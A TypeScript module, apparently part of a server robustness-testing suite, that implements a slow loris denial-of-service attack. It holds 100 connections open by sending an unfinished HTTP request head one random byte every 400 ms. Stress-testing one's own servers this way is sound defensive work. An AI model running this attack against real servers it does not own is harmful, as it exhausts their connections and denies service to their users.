import { type Abuse, below, openStream, pause, workers, write } from './abuse.ts'

const CONNECTIONS = 100
const BYTE_EVERY_MS = 400

/** Slow loris: a request whose head never ends, a byte at a time. */
export const abuse: Abuse = {
  name: 'slow-headers',
  on: ['http', 'tls'],
  run: (port, context) =>
    workers(CONNECTIONS, context, async () => {
      const stream = await openStream(port, context)
      stream.on('error', () => {})
      stream.resume()
      await write(stream, `GET / HTTP/1.1\r\nhost: ${port.address}:${port.port}\r\nx-slow: `, context)
      while (!context.signal.aborted) {
        await write(stream, String.fromCharCode(97 + below(context.random, 26)), context)
        await pause(BYTE_EVERY_MS, context.signal)
      }
      stream.destroy()
    }),
}
